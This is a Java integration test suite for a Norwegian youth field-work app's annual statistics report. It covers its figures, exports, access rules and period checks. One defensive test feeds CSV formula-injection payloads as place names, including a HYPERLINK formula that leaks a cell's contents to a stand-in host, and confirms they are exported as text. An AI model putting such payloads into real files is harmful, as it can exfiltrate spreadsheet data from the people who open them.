package no.feltlogg.statistics;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpStatus;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.web.servlet.assertj.MockMvcTester;

import no.feltlogg.catalog.Catalog;
import no.feltlogg.catalog.CodeKind;
import no.feltlogg.shared.CurrentUser;
import no.feltlogg.shared.Role;
import no.feltlogg.support.IntegrationTest;
import no.feltlogg.support.TestStaff;

/**
 * Every figure of the report's field-work tables against data built for the test, with
 * known answers.
 */
@IntegrationTest
class AnnualReportTest {

	@Autowired
	MockMvcTester mvc;

	@Autowired
	TestStaff staff;

	@Autowired
	JdbcTemplate jdbc;

	@Autowired
	Catalog catalog;

	TestStaff.Municipality municipality;

	CurrentUser worker;

	CurrentUser leader;

	@BeforeEach
	void setUp() {
		municipality = staff.newMunicipality();
		worker = municipality.user(municipality.account(Role.WORKER));
		leader = municipality.user(municipality.account(Role.LEADER));
		// 2024: one group on new year's eve, 23:30 Oslo (22:30 UTC)
		log("2024-12-31", "23:30", "street", null, "BOY:16-18", "2");
		// 2025: 00:30 on 1 January Oslo is still 2024 in UTC, but belongs to 2025
		log("2025-01-01", "00:30", "street", null, "BOY:16-18", "3", "GIRL:16-18", "4");
		log("2025-03-14", "21:30", "school", "school", "GIRL:12-15", "6");
		log("2025-03-15", "14:00", "online", "online", "UNKNOWN:>18", "1");
		log("2025-12-31", "23:59", "street", "alcohol", "BOY:12-15", "5");
		// another team's encounters never count
		var other = municipality.user(municipality.account(Role.WORKER, municipality.teamB));
		post(other, "2025-05-05", "20:00", "street", null, "GIRL:12-15", "40");
	}

	@Test
	void theReportCountsEveryEncounterOnceInItsOsloYear() {
		var page = page(leader, "/statistics/annual?kind=year&year=2025");
		assertThat(headers(page, "encounters")).containsExactly("Kanal", "2024", "2025");
		assertThat(row(page, "encounters", "Alle ungdomstreff")).containsExactly("2", "19");
		assertThat(row(page, "encounters", "Gate, skole og annet fysisk")).containsExactly("2", "18");
		assertThat(row(page, "encounters", "Nett og sosiale medier")).containsExactly("0", "1");

		assertThat(headers(page, "anonymousRegistered")).containsExactly("Kjønn", "Anonyme", "Registrerte");
		assertThat(row(page, "anonymousRegistered", "Gutter")).containsExactly("8", "0");
		assertThat(row(page, "anonymousRegistered", "Jenter")).containsExactly("10", "0");
		assertThat(row(page, "anonymousRegistered", "Annet/ukjent")).containsExactly("1", "0");

		assertThat(headers(page, "ageBandGender")).containsExactly("Aldersgruppe", "Gutter", "Jenter", "Annet/ukjent");
		assertThat(row(page, "ageBandGender", "12-15")).containsExactly("5", "6", "0");
		assertThat(row(page, "ageBandGender", "16-18")).containsExactly("3", "4", "0");
		assertThat(row(page, "ageBandGender", ">18")).containsExactly("0", "0", "1");
		assertThat(row(page, "ageBandYears", "16-18")).containsExactly("2", "7");

		assertThat(row(page, "byArena", "Gate og sentrum")).containsExactly("2", "12");
		assertThat(row(page, "byArena", "Skole")).containsExactly("0", "6");
		assertThat(row(page, "byTheme", "Alkohol")).containsExactly("0", "5");
		assertThat(row(page, "byTheme", "Skole og fravær")).containsExactly("0", "6");
		assertThat(row(page, "byTimeOfDay", "Natt (22–08)")).containsExactly("2", "12");
		assertThat(row(page, "byTimeOfDay", "Kveld (16–22)")).containsExactly("0", "6");
		assertThat(row(page, "byTimeOfDay", "Dag (08–16)")).containsExactly("0", "1");
		assertThat(row(page, "byMonth", "januar")).containsExactly("0", "7");
		assertThat(row(page, "byMonth", "mars")).containsExactly("0", "7");
		assertThat(row(page, "byMonth", "desember")).containsExactly("2", "5");
		assertThat(page.select("table[data-chart]")).isNotEmpty();
	}

	@Test
	void aQuarterIsComparedWithTheSameQuarterOfEarlierYears() {
		log("2024-02-10", "19:00", "street", null, "GIRL:16-18", "8");
		var page = page(leader, "/statistics/annual?kind=quarter&year=2025&number=1");
		assertThat(page.select("h1").text()).contains("Q1 2025");
		assertThat(headers(page, "encounters")).containsExactly("Kanal", "Q1 2024", "Q1 2025");
		assertThat(row(page, "encounters", "Alle ungdomstreff")).containsExactly("8", "14");
	}

	@Test
	void theLeadersForewordAndCommentsAreKeptWithTheReport() {
		assertThat(mvc.post()
			.uri("/statistics/annual/comments?kind=year&year=2025")
			.param("section", "foreword")
			.param("text", "Et år med mange nye ungdommer i sentrum.")
			.with(user(leader))
			.with(csrf())).hasRedirectedUrl("/statistics/annual?kind=year&year=2025#section-foreword");
		mvc.post()
			.uri("/statistics/annual/comments?kind=year&year=2025")
			.param("section", "byTheme")
			.param("text", "Alkohol dominerte i romjula.")
			.with(user(leader))
			.with(csrf())
			.exchange();
		var page = page(leader, "/statistics/annual?kind=year&year=2025");
		assertThat(page.select("#section-foreword .comment").text())
			.isEqualTo("Et år med mange nye ungdommer i sentrum.");
		assertThat(page.select("#section-byTheme .comment").text()).isEqualTo("Alkohol dominerte i romjula.");
		var otherYear = page(leader, "/statistics/annual?kind=year&year=2024");
		assertThat(otherYear.select("#section-foreword .comment")).isEmpty();
	}

	/** Larger groups, so that the published tables keep most figures visible. */
	private void busierYears() {
		log("2024-06-01", "20:00", "street", null, "BOY:12-15", "30", "GIRL:12-15", "25");
		log("2025-06-01", "20:00", "street", null, "BOY:12-15", "40", "GIRL:12-15", "35");
		log("2025-06-02", "20:00", "online", null, "GIRL:16-18", "12");
	}

	@Test
	void theCsvIsLongFormatWithSmallNumbersSuppressed() {
		busierYears();
		var csv = new String(export("csv"), StandardCharsets.UTF_8);
		// issue 16: Norwegian headers, with the row's and column's codes beside the words
		assertThat(csv).startsWith("\ufeffRadkode,Kolonnekode,Tabell,Rad,Kolonne,Verdi\r\n");
		assertThat(csv).contains("encounters,Alle ungdomstreff,2024,57\r\n")
			.contains("encounters,Alle ungdomstreff,2025,106\r\n")
			.contains("encounters,Nett og sosiale medier,2025,13\r\n")
			.contains("ageBandGender,>18,Annet/ukjent,<5\r\n")
			.contains("ageBandGender,12-15,Gutter,45\r\n")
			.containsPattern("\\n[a-zA-Z]+,[^\\n]+,×\\r\\n");
		var internal = mvc.get()
			.uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
			.with(user(leader))
			.exchange();
		assertThat(internal.getResponse().getContentAsByteArray()).asString(StandardCharsets.UTF_8)
			.contains("ageBandGender,>18,Annet/ukjent,1\r\n");
	}

	@Test
	void theSpreadsheetHasASheetPerTableWithTheFigures() throws Exception {
		busierYears();
		try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(export("xlsx")))) {
			var sheets = workbook.getSheets().map(s -> s.getName()).toList();
			var tables = Jsoup
				.parse(mvc.get()
					.uri("/statistics/annual?kind=year&year=2025")
					.with(user(leader))
					.exchange()
					.getResponse()
					.getContentAsString(StandardCharsets.UTF_8))
				.select("table.report-table")
				.size();
			// issue 16: a contents sheet first, and short numbered sheet names instead of
			// titles cut at 31 characters
			assertThat(sheets).hasSize(tables + 1).contains("1 Treff i alt", "9 Tema");
			var encounters = workbook.getSheets()
				.filter(s -> s.getName().equals("1 Treff i alt"))
				.findFirst()
				.orElseThrow();
			var rows = encounters.read();
			var all = rows.stream().filter(r -> r.getCellText(0).equals("Alle ungdomstreff")).findFirst().orElseThrow();
			assertThat(all.getCellAsNumber(1).orElseThrow().intValue()).isEqualTo(57);
			assertThat(all.getCellAsNumber(2).orElseThrow().intValue()).isEqualTo(106);
			var ages = workbook.getSheets()
				.filter(s -> s.getName().equals("3 Alder og kjønn"))
				.findFirst()
				.orElseThrow()
				.read();
			var adults = ages.stream().filter(r -> r.getCellText(0).equals(">18")).findFirst().orElseThrow();
			assertThat(adults.getCellText(3)).isEqualTo("<5");
		}
	}

	@Test
	void thePdfHasTheTeamTheFiguresTheCommentsAndPageNumbers() throws Exception {
		busierYears();
		mvc.post()
			.uri("/statistics/annual/comments?kind=year&year=2025")
			.param("section", "foreword")
			.param("text", "Forord til kommunestyret.")
			.with(user(leader))
			.with(csrf())
			.exchange();
		try (var pdf = Loader.loadPDF(export("pdf"))) {
			assertThat(pdf.getNumberOfPages()).isGreaterThanOrEqualTo(2);
			var text = new PDFTextStripper().getText(pdf);
			var teamName = jdbc.queryForObject("select name from team where id = ?", String.class, municipality.teamA);
			assertThat(text).contains("Årsrapport 2025")
				.contains(teamName)
				.contains("Forord til kommunestyret.")
				.contains("Ungdomstreff etter aldersgruppe og kjønn")
				.contains("Alle ungdomstreff 57 106")
				.contains(">18 0 0 <5")
				.contains("Side 1")
				.contains("Side 2");
		}
	}

	@Test
	void cellsASpreadsheetWouldRunAsAFormulaAreExportedAsText() throws Exception {
		var area = catalog.active(municipality.teamA, CodeKind.AREA).getFirst();
		var names = List.of("=HYPERLINK(\"https://example.org/?\"&A1,\"Torget\")", "+47 Plassen", "-1+1", "@SUM(A1)",
				"\tFanen", "\rLinja");
		for (var name : names) {
			var place = catalog.ensure(municipality.teamA, CodeKind.PLACE, name, area.id());
			// the code lists trim a name; an older row, or a form that does not, can
			// still begin with a tab
			jdbc.update("update code_item set label = ? where id = ?", name, place.id());
			assertThat(mvc.post()
				.uri("/fieldwork/encounters/new")
				.param("date", "2025-04-01")
				.param("time", "20:00")
				.param("arena", "street")
				.param("areaId", area.id().toString())
				.param("placeId", place.id().toString())
				.param("counts[GIRL:12-15]", "6")
				.with(user(worker))
				.with(csrf())).hasRedirectedUrl("/");
		}
		var result = mvc.get()
			.uri("/statistics/annual/export.csv?kind=year&year=2025&published=false")
			.with(user(leader))
			.exchange();
		var csv = new String(result.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8).substring(1);
		var cells = new java.util.ArrayList<String>();
		try (var parser = org.apache.commons.csv.CSVParser.parse(csv, org.apache.commons.csv.CSVFormat.DEFAULT)) {
			parser.forEach(record -> record.forEach(cells::add));
		}
		assertThat(cells).contains("'=HYPERLINK(\"https://example.org/?\"&A1,\"Torget\")", "'+47 Plassen", "'-1+1",
				"'@SUM(A1)", "'\tFanen", "'\rLinja");
		assertThat(cells).as("no cell a spreadsheet reads as a formula")
			.noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"));
	}

	@Test
	void onlyTheLeaderOpensTheReportAndOnlyForHerTeam() {
		for (var role : List.of(Role.WORKER, Role.SLT, Role.ADMIN)) {
			var other = municipality.user(municipality.account(role));
			assertThat(mvc.get().uri("/statistics/annual").with(user(other))).hasStatus(HttpStatus.FORBIDDEN);
			assertThat(mvc.get().uri("/statistics/annual/export.pdf").with(user(other)))
				.hasStatus(HttpStatus.FORBIDDEN);
			assertThat(mvc.get().uri("/statistics/annual/export.csv").with(user(other)))
				.hasStatus(HttpStatus.FORBIDDEN);
			assertThat(mvc.post()
				.uri("/statistics/annual/comments")
				.param("section", "foreword")
				.param("text", "x")
				.with(user(other))
				.with(csrf())).hasStatus(HttpStatus.FORBIDDEN);
		}
		var leaderB = municipality.user(municipality.account(Role.LEADER, municipality.teamB));
		var page = page(leaderB, "/statistics/annual?kind=year&year=2025");
		assertThat(row(page, "encounters", "Alle ungdomstreff")).containsExactly("40");
	}

	@Test
	void aPeriodThatMakesNoSenseFallsBackToTheYearWithAMessage() {
		var page = page(leader, "/statistics/annual?kind=custom&year=2025&from=2025-05-01&to=2025-04-01");
		assertThat(page.select("[role=alert]").text()).contains("Perioden kunne ikke leses");
		assertThat(mvc.get().uri("/statistics/annual?kind=month&year=99999&number=13").with(user(leader)))
			.hasStatusOk();
	}

	@Test
	void aPeriodOfMoreThanTenYearsIsRefusedWithAMessageOnThePageAndNoFile() {
		var tenYears = page(leader, "/statistics/annual?kind=custom&year=2025&from=2015-01-01&to=2024-12-31");
		assertThat(tenYears.select("[role=alert]")).isEmpty();

		for (var query : List.of("kind=custom&year=2025&from=2014-01-01&to=2024-12-31",
				"kind=custom&year=2025&from=0001-01-01&to=9999-12-31")) {
			var page = page(leader, "/statistics/annual?" + query);
			assertThat(page.select("[role=alert]").text()).contains("En rapport kan dekke høyst ti år");
			assertThat(page.select("input[name=year]").val()).isEqualTo("2025");
			for (var format : List.of("pdf", "xlsx", "csv")) {
				assertThat(mvc.get().uri("/statistics/annual/export." + format + "?" + query).with(user(leader)))
					.hasStatus(HttpStatus.FOUND)
					.hasRedirectedUrl("/statistics/annual?" + query);
			}
		}
	}

	@Test
	void aCommentForAPeriodThatCannotBeReportedIsNotStoredOnAnotherPeriod() {
		var posted = mvc.post()
			.uri("/statistics/annual/comments?kind=custom&year=2025&from=0001-01-01&to=9999-12-31")
			.param("section", "foreword")
			.param("text", "Forord til et år ingen ba om")
			.with(user(leader))
			.with(csrf())
			.exchange();
		assertThat(posted).hasStatus(HttpStatus.FOUND);
		assertThat(posted.getMvcResult().getFlashMap().get("error")).isEqualTo("report.period.tooLong");
		assertThat(jdbc.queryForObject("select count(*) from report_comment where team_id = ?", Integer.class,
				municipality.teamA))
			.isZero();
	}

	@Test
	void aYearOutsideTheYears1900To2100IsNotReported() {
		var page = page(leader, "/statistics/annual?kind=year&year=1");
		assertThat(page.select("[role=alert]").text()).contains("Perioden kunne ikke leses");
		assertThat(mvc.get().uri("/statistics/annual/export.csv?kind=year&year=1").with(user(leader)))
			.hasStatus(HttpStatus.FOUND);
	}

	private Document page(CurrentUser who, String url) {
		var result = mvc.get().uri(url).with(user(who)).exchange();
		assertThat(result).hasStatusOk();
		try {
			return Jsoup.parse(result.getResponse().getContentAsString(StandardCharsets.UTF_8));
		}
		catch (java.io.UnsupportedEncodingException e) {
			throw new IllegalStateException(e);
		}
	}

	private byte[] export(String format) {
		var result = mvc.get()
			.uri("/statistics/annual/export." + format + "?kind=year&year=2025")
			.with(user(leader))
			.exchange();
		assertThat(result).hasStatusOk();
		return result.getResponse().getContentAsByteArray();
	}

	private static List<String> headers(Document page, String table) {
		return page.select("#table-" + table + " thead th").eachText();
	}

	private static List<String> row(Document page, String table, String label) {
		var row = page.select("#table-" + table + " tbody tr")
			.stream()
			.filter(tr -> tr.selectFirst("th") != null && tr.selectFirst("th").text().equals(label))
			.findFirst()
			.orElseThrow(() -> new AssertionError("no row " + label + " in " + table));
		return row.select("td").eachText();
	}

	private void log(String date, String time, String arena, String theme, String... cells) {
		post(worker, date, time, arena, theme, cells);
	}

	private void post(CurrentUser who, String date, String time, String arena, String theme, String... cells) {
		var request = mvc.post()
			.uri("/fieldwork/encounters/new")
			.param("date", date)
			.param("time", time)
			.param("arena", arena)
			.with(user(who))
			.with(csrf());
		if ("online".equals(arena)) {
			request = request.param("platform", "SNAPCHAT");
		}
		if (theme != null) {
			request = request.param("themes", theme);
		}
		for (int i = 0; i < cells.length; i += 2) {
			request = request.param("counts[" + cells[i] + "]", cells[i + 1]);
		}
		assertThat(request).hasRedirectedUrl("/");
	}

}
